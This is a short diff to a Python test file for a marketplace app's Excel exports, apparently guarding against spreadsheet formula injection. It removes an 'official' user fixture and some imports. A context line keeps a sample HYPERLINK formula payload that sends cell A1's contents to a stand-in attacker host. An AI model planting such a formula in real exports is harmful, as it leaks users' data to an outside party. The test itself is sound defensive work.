@@ -8,9 +8,8 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from marketplace.accounts.models import Role
 from marketplace.extensions import db
-from tests.factories import make_product, make_shop, make_user, make_village
+from tests.factories import make_product, make_shop, make_village
 from tests.officials.helpers import AS_OF, LONG
 
 EXPORTS = {
@@ -26,13 +25,6 @@ PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
 @pytest.fixture
 def app_overrides():
     return {"STATS_AS_OF": AS_OF}
-
-
-@pytest.fixture
-def official(app):
-    user = make_user(Role.OFFICIAL, name="Chị Mai")
-    db.session.commit()
-    return user
 
 
 def xlsx_cells(data: bytes) -> list:
